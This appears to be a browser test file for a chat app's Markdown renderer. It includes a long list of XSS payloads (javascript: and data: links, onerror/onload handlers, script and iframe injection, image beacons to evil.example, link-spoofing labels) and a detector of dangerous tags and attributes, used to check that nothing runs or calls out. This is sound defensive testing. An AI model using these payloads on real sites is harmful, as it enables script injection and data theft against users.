import { describe, expect, it, vi } from 'vitest'
import { render } from 'vitest-browser-react'
import { findingsNow } from '../testing/axe-findings.ts'
import { framesDrawn, untilDrawn } from '../testing/drawn.ts'
import { answerIn, ROOMS, ROOMY, shown, shownButton } from '../testing/room.tsx'
import { RequestsContext } from './inline.tsx'
import { Markdown } from './markdown.tsx'

const ADDRESS = '9CTmyGuUYZTP55e15reFPJMeWbMQ6ydXDNyzBMyS8BvQ'
const SIGNATURE = '2RF3ugPdKMojzm2TzjYTL5x8zvFuUMQcJyK3utdX5Z7hRKmcKZjRR76nznazgtcFwr1r2os67PN1CXHF6eHNass7'

async function drawn(text: string, done = true): Promise<HTMLElement> {
  const { container } = await render(<Markdown text={text} done={done} />)
  return container
}

it('runs each paragraph in the direction of its own words', async () => {
  const root = await drawn('שלום, כמה SOL יש לי?\n\nYou hold 5 SOL.\n\n- אחת\n- שתיים')
  const directions = [...root.querySelectorAll('p, ul')].map((part) => getComputedStyle(part).direction)
  expect(directions).toEqual(['rtl', 'ltr', 'rtl'])
})

/** A global that the payloads try to call; no text may reach it. */
declare global {
  interface Window {
    pwned?: boolean
  }
}

const SAFE_HREF = /^(https?|mailto):/

function dangersIn(root: HTMLElement): string[] {
  const elements = [...root.querySelectorAll('*')]
  const tags = elements.filter((element) =>
    /^(script|iframe|img|object|embed|form|input|video|audio|link|meta|base|style|math|foreignobject|use|animate|template)$/i.test(
      element.tagName,
    ),
  )
  const handlers = elements.flatMap((element) =>
    [...element.attributes].filter(({ name }) =>
      /^on|^(srcdoc|formaction|xlink:href|src|style|ping)$/i.test(name),
    ),
  )
  const hrefs = [...root.querySelectorAll('a')].filter(
    (link) =>
      !SAFE_HREF.test(link.href) || link.target !== '_blank' || link.rel !== 'noopener noreferrer nofollow',
  )
  return [
    ...tags.map(({ tagName }) => `<${tagName}>`),
    ...handlers.map(({ name }) => `${name}=`),
    ...hrefs.map(({ outerHTML }) => outerHTML),
  ]
}

const outsideRequests = (): string[] =>
  performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((url) => new URL(url).origin !== location.origin)

const JS = 'window.pwned=true'
const HOSTILE: readonly string[] = [
  // links that would run
  `[x](javascript:${JS})`,
  `[x](JaVaScRiPt:${JS})`,
  `[x](  javascript:${JS})`,
  `[x](<javascript:${JS}>)`,
  `[x](java\tscript:${JS})`,
  `[x](java&Tab;script:${JS})`,
  `[x](java&NewLine;script:${JS})`,
  `[x](java&#10;script:${JS})`,
  `[x](&#106;avascript:${JS})`,
  `[x](&#x6A;&#x61;vascript&colon;${JS})`,
  `[x](javascript&#58;${JS})`,
  `[x](javascript&#x3a;${JS})`,
  `[x](\u0001javascript:${JS})`,
  `[x](javascript\\:${JS})`,
  `[x](javascript:${JS} "title")`,
  `[x](javascript://example.com/%0A${JS})`,
  `[x](vbscript:${JS})`,
  `[x](data:text/html,<script>${JS}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9dHJ1ZTwvc2NyaXB0Pg==)`,
  `[x](blob:https://evil.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x](filesystem:https://evil.example/x)`,
  `[x](view-source:https://evil.example)`,
  `[x](//evil.example/path)`,
  `[x](/api/session)`,
  `[x](#fragment)`,
  `[x](intent://evil#Intent;scheme=https;end)`,
  `<javascript:${JS}>`,
  `<data:text/html,x>`,
  `[x][r]\n\n[r]: javascript:${JS}`,
  `[r]: data:text/html,x\n\n[r]`,
  `[![x](https://evil.example/i.png)](javascript:${JS})`,
  // labels that break out
  `[x" onclick="${JS}](https://evil.example)`,
  `[x](https://evil.example/"onmouseover="${JS})`,
  `[x](https://evil.example 'x" onmouseover="${JS}')`,
  // images that would call out
  '![x](https://evil.example/?q=secret)',
  '![x](http://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  `![x](javascript:${JS})`,
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  `![x" onerror="${JS}](x)`,
  '![x][i]\n\n[i]: https://evil.example/pixel.gif',
  // raw HTML
  `<script>${JS}</script>`,
  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `<img src=x onerror=${JS}>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload=${JS}></svg>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s></svg>`,
  `<math><mtext><img src=x onerror=${JS}></mtext></math>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  `<object data="data:text/html,<script>${JS}</script>"></object>`,
  `<embed src="javascript:${JS}">`,
  `<a href="javascript:${JS}">x</a>`,
  `<a href="https://evil.example" onclick="${JS}">x</a>`,
  `<form action="javascript:${JS}"><input type=submit></form>`,
  `<video><source onerror="${JS}"></video>`,
  `<details open ontoggle=${JS}>x</details>`,
  `<body onload=${JS}>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<div style="background:url(https://evil.example/x)">x</div>`,
  `<template><script>${JS}</script></template>`,
  `<!--><img src=x onerror=${JS}>-->`,
  `<![CDATA[<img src=x onerror=${JS}>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  `<x onfocus=${JS} tabindex=0 autofocus>`,
  // nested and mixed
  `> - **[x](javascript:${JS})** <img src=x onerror=${JS}>`,
  `| a |\n|---|\n| <img src=x onerror=${JS}> [x](javascript:${JS}) |`,
  `# <img src=x onerror=${JS}>`,
  `\`<img src=x onerror=${JS}>\``,
  `\`\`\`html\n<script>${JS}</script>\n\`\`\``,
  `\`\`\`"><script>${JS}</script>\nx\n\`\`\``,
  `- [ ] <input onfocus=${JS} autofocus>`,
  `**<b onclick=${JS}>x</b>**`,
  `[<img src=x onerror=${JS}>](https://evil.example)`,
  `<https://evil.example/<img/src=x/onerror=${JS}>>`,
  `&lt;img src=x onerror=${JS}&gt;`,
  `&#60;script&#62;${JS}&#60;/script&#62;`,
  `<img src="x\` \`<script>${JS}</script>"\` \`>`,
  `\u202Etxt.exe [x](javascript:${JS})`,
]

describe('nothing that is written runs or calls out', () => {
  it(`draws ${HOSTILE.length} hostile texts without harm, finished or not`, async () => {
    performance.clearResourceTimings()
    for (const text of HOSTILE) {
      for (const done of [true, false]) {
        const root = await drawn(text, done)
        expect(dangersIn(root), text).toEqual([])
        for (const element of root.querySelectorAll<HTMLElement>('a, [tabindex]')) element.focus()
        root.remove()
      }
    }
    const all = await drawn(HOSTILE.join('\n\n'))
    expect(dangersIn(all)).toEqual([])
    await new Promise((settled) => requestAnimationFrame(() => requestAnimationFrame(settled)))
    expect(window.pwned).toBeUndefined()
    expect(outsideRequests()).toEqual([])
  })

  it('would notice: the same checks see an element, a handler, a scheme and a request', async () => {
    performance.clearResourceTimings()
    new Image().src = 'http://127.0.0.1:9/pixel.gif'
    await vi.waitFor(() => expect(outsideRequests()).toEqual(['http://127.0.0.1:9/pixel.gif']))
    const root = document.createElement('div')
    const link = root.appendChild(document.createElement('a'))
    link.setAttribute('href', 'javascript:void 0')
    link.setAttribute('onclick', '')
    root.appendChild(document.createElement('iframe'))
    expect(dangersIn(root)).toHaveLength(3)
  })

  it('shows HTML as it was written', async () => {
    const root = await drawn('<b onclick="x()">bold</b> and <div>\n\n**really** bold')
    expect(root.textContent).toContain('<b onclick="x()">bold</b> and <div>')
    expect(root.querySelector('strong')).toHaveTextContent('really')
  })
})

describe('links', () => {
  it('[C2.10] open in a new tab that knows nothing of this one', async () => {
    const root = await drawn('[docs](https://station.jup.ag/docs) and https://solana.com')
    const links = [...root.querySelectorAll('a')]
    expect(links.map(({ href }) => href)).toEqual(['https://station.jup.ag/docs', 'https://solana.com/'])
    for (const link of links)
      expect(link).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow' })
  })

  it('[C2.11, C9.23] shorten a label of more than 48 characters, and only then', async () => {
    const fits = `https://example.com/${'a'.repeat(28)}`
    const long = `${fits}b`
    const root = await drawn(`${fits} ${long}`)
    const [first, second] = [...root.querySelectorAll('a')]
    expect(fits).toHaveLength(48)
    expect(first?.textContent).toBe(fits)
    expect(second?.textContent).toBe(`${long.slice(0, 47)}…`)
    expect(second?.title).toBe(long)
  })

  it.each([
    ['[https://jup.ag](https://evil.example/x)', 'https://jup.ag (evil.example)'],
    ['[jup.ag](https://jup.ag.evil.example)', 'jup.ag (jup.ag.evil.example)'],
    ['[docs](https://evil.example)', 'docs'],
    ['[jup.ag](https://www.jup.ag)', 'jup.ag'],
    ['[jup。ag](https://evil.example)', 'jup。ag (evil.example)'],
    ['[jup\u2024ag](https://evil.example)', 'jup\u2024ag (evil.example)'],
    ['[jup\u2060.ag](https://evil.example)', 'jup\u2060.ag (evil.example)'],
    ['<https://jup.ag@evil.example/>', 'https://jup.ag@evil.example/ (evil.example)'],
    ['[docs](https://user:pass@evil.example)', 'docs (evil.example)'],
    ['[docs](https://xn--pple-43d.example)', 'docs (xn--pple-43d.example)'],
    ['[help@jup.ag](mailto:thief@evil.example)', 'help@jup.ag (thief@evil.example)'],
    ['[mail](mailto:help@jup.ag)', 'mail'],
  ])('%s reads %s', async (text, words) => {
    expect((await drawn(text)).querySelector('a')?.textContent).toBe(words)
  })

  it('leave their label as text when they must not be followed', async () => {
    const root = await drawn('see [this **page**](javascript:alert)')
    expect(root.querySelector('a')).toBeNull()
    expect(root.textContent).toBe('see this page')
  })

  it('stand in for images', async () => {
    const root = await drawn('![a chart](https://evil.example/?q=1)')
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('a')).toHaveTextContent('Image: a chart')
  })
})

describe('chips', () => {
  it('[C2.6, C2.7, C2.8] stand for addresses and signatures in text and in code', async () => {
    const root = await drawn(`Sent ${SIGNATURE} to \`${ADDRESS}\`.`)
    const buttons = [...root.querySelectorAll('button')].map((button) => button.getAttribute('aria-label'))
    expect(buttons).toEqual(['Copy signature 2RF3ug…HNass7', 'Copy address 9CTmyG…yS8BvQ'])
    expect(root).toHaveTextContent('Sent 2RF3ug…HNass7 to 9CTmyG…yS8BvQ.')
  })

  it('are not made of links, code blocks or parts of words', async () => {
    const root = await drawn(
      `https://solscan.io/tx/${SIGNATURE} [${ADDRESS}](https://solscan.io)\n\n\`\`\`\n${ADDRESS}\n\`\`\`\n\nx0${ADDRESS} a/${ADDRESS}`,
    )
    const labels = [...root.querySelectorAll('button')].map((button) => button.getAttribute('aria-label'))
    expect(labels).toEqual(['Copy code'])
  })
})

describe('what is drawn', () => {
  const TEXT = `# Title\n\nSome *soft* and **loud** words, ~~gone~~, about ~5 to ~7.\nA new line.\n\n- one\n- [x] done\n- [ ] open\n\n3. three\n4. four\n\n> said\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n\`\`\`ts\nconst x = 1\n\`\`\`\n\n---\n\nEnd & <end>`

  it('[C2.5] has the elements that the marks mean', async () => {
    const root = await drawn(TEXT)
    const count = (selector: string) => root.querySelectorAll(selector).length
    expect({
      h3: count('h3'),
      em: count('em'),
      strong: count('strong'),
      del: count('del'),
      ul: count('ul > li'),
      ol: count('ol[start="3"] > li'),
      quote: count('blockquote'),
      cells: count('th') + count('td'),
      code: count('pre code'),
      hr: count('hr'),
      br: count('br'),
      boxes: count('[role="img"]'),
    }).toEqual({
      h3: 1,
      em: 1,
      strong: 1,
      del: 1,
      ul: 3,
      ol: 2,
      quote: 1,
      cells: 4,
      code: 1,
      hr: 1,
      br: 1,
      boxes: 2,
    })
    expect(root.textContent).toContain('about ~5 to ~7.')
    expect(root.textContent).toContain('End & <end>')
  })

  it.each(['dark', 'light'])('has nothing for axe to find in the %s theme', async (theme) => {
    document.documentElement.dataset.theme = theme
    const root = await drawn(`${TEXT}\n\n${ADDRESS} https://jup.ag`)
    expect(await findingsNow(root, ['region'])).toEqual([])
  })

  it('keeps the blocks that are finished while the text grows', async () => {
    const start = 'First **block**.\n\nSecond block.\n\nThird'
    const { container, rerender } = await render(<Markdown text={start} done={false} />)
    const [first] = container.querySelectorAll('p')
    await rerender(<Markdown text={`${start} block, and a fourth.\n\nFifth`} done={false} />)
    expect(container.querySelectorAll('p')).toHaveLength(4)
    expect(container.querySelector('p')).toBe(first)
  })

  it('[C9.18] copies code and says so for 1.2 s', async () => {
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
    const write = vi.spyOn(navigator.clipboard, 'writeText').mockResolvedValue()
    const root = await drawn('```ts\nconst x = 1\n```')
    const status = () => root.querySelector('[role="status"]')?.textContent
    root.querySelector('button')?.click()
    await untilDrawn(() => status() === 'Code copied')
    expect(write).toHaveBeenCalledWith('const x = 1')
    vi.advanceTimersByTime(1199)
    await framesDrawn()
    expect(status()).toBe('Code copied')
    vi.advanceTimersByTime(1)
    await untilDrawn(() => status() === '')
    vi.useRealTimers()
  })
})

describe('bold requests', () => {
  it('are pressed where they do something, and are only bold elsewhere', async () => {
    const pressed = vi.fn<(words: string) => void>()
    const requests = { isRequest: (words: string) => words === 'price of SOL', onPress: pressed }
    const screen = await render(
      <RequestsContext value={requests}>
        <Markdown text="Say **price of SOL**, then press **Confirm**." />
      </RequestsContext>,
    )
    await screen.getByRole('button', { name: 'price of SOL' }).click()
    expect(pressed).toHaveBeenCalledExactlyOnceWith('price of SOL')
    expect(screen.container.querySelectorAll('button')).toHaveLength(1)
    expect(screen.container.querySelectorAll('strong')).toHaveLength(2)
    const plain = await drawn('Say **price of SOL**.')
    expect(plain.querySelector('button')).toBeNull()
  })

  it('a link holds none', async () => {
    const screen = await render(
      <RequestsContext value={{ isRequest: () => true, onPress: vi.fn() }}>
        <Markdown text="[**price of SOL**](https://example.com)" />
      </RequestsContext>,
    )
    expect(screen.container.querySelector('a button')).toBeNull()
  })
})

/** The help of a user who may use every group. */
const HELP = `I look after Solana wallets and tokens, live. Try:

${Object.entries({
  Money: ["what's in the wallet?", 'how much usdc?', 'swap half a SOL to USDC', 'show my trades'],
  Market: ['price of JUP', 'chart of BONK for a week', 'snapshot of WIF'],
  'People and wallets': ['what did my wallet do today?', 'top kols this week'],
  Streams: ["who's live on pump"],
  'Web and social': [
    'search the web for solana staking',
    'open the first result',
    'what do people say about JUP',
  ],
  You: ['what did we say about JUP last week', 'remember that I like short answers'],
})
  .map(
    ([title, lines]) => `#### ${title}\n\n${lines.map((line) => `- **${line}** – what it gives`).join('\n')}`,
  )
  .join('\n\n')}`

it.each(ROOMS)('shows the whole help with the first requests of each group at %d × %d', async (...room) => {
  const requests = { isRequest: () => true, onPress: () => undefined }
  const { log, above } = await answerIn(room, {
    reply: HELP,
    around: (page) => <RequestsContext value={requests}>{page}</RequestsContext>,
  })
  expect(above()).toBeLessThanOrEqual(0)
  expect(shown(log, 'h3').map(({ textContent }) => textContent)).toContain('People and wallets')
  expect(shownButton(log, /^what's in the wallet\?$/)).toBeDefined()
  expect(shownButton(log, /^show my trades$/)).toBeUndefined()
  // The lines of one request are nearer to each other than two requests.
  const list = log.querySelector('.offers ul')
  expect(list && Number.parseFloat(getComputedStyle(list).rowGap)).toBeGreaterThan(0)
  shownButton(log, /^Show \d+ more$/)?.click()
  await expect.poll(() => shown(log, 'li').length).toBe(15)
  expect(shownButton(log, /^show my trades$/)).toBeDefined()
  shownButton(log, /^Collapse$/)?.click()
  await expect.poll(() => shown(log, 'li').length).toBeLessThan(15)
})

it('has its requests apart from each other, and large enough for a thumb, on a phone with room', async () => {
  const requests = { isRequest: () => true, onPress: () => undefined }
  const { log } = await answerIn([390, 844, 390, 651], {
    reply: HELP,
    around: (page) => <RequestsContext value={requests}>{page}</RequestsContext>,
  })
  const buttons = shown(log, 'li > button')
  const heights = buttons.map((button) => button.getBoundingClientRect().height)
  expect(buttons.length).toBeGreaterThan(8)
  expect(Math.min(...heights)).toBeGreaterThanOrEqual(28)
})

/** A request is broken though it would fit in its list. */
const isBrokenEarly = (request: HTMLElement): boolean => {
  const { height } = request.getBoundingClientRect()
  request.style.whiteSpace = 'nowrap'
  const whole = request.getBoundingClientRect()
  request.style.whiteSpace = ''
  return height > whole.height + 4 && whole.width <= (request.closest('ul')?.clientWidth ?? 0)
}

it.each([...ROOMS, [768, 1024, 768, 790], ROOMY] as const)(
  'breaks no request of the help that fits on a line, at %d × %d',
  async (...room) => {
    const requests = { isRequest: () => true, onPress: () => undefined }
    const { log } = await answerIn(room, {
      reply: HELP,
      around: (page) => <RequestsContext value={requests}>{page}</RequestsContext>,
    })
    const broken = shown<HTMLElement>(log, 'li > button').filter(isBrokenEarly)
    expect(broken.map(({ textContent }) => textContent)).toEqual([])
  },
)

it('shows the whole help with what each request gives where there is room', async () => {
  const requests = { isRequest: () => true, onPress: () => undefined }
  const { log, above } = await answerIn(ROOMY, {
    reply: HELP,
    around: (page) => <RequestsContext value={requests}>{page}</RequestsContext>,
  })
  expect(above()).toBeLessThanOrEqual(0)
  expect(shown(log, 'li > span')).toHaveLength(15)
  expect(shownButton(log, /^Show/)).toBeUndefined()
})

it('leaves the lists of an answer that is no help as they are', async () => {
  const { log } = await answerIn(ROOMS[0], { reply: HELP })
  expect(shown(log, 'li')).toHaveLength(15)
})
